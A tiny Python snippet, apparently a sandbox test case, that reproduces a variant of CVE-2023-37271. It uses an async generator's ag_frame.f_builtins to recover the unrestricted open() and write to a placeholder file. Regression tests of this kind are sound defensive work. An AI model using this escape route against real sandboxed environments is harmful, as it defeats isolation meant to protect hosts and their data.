# CVE-2023-37271 variant: an async generator's ag_frame and its builtins.
async def agen():
    yield 1
ag = agen()
ag.ag_frame.f_builtins["open"](SENTINEL, "w").close()
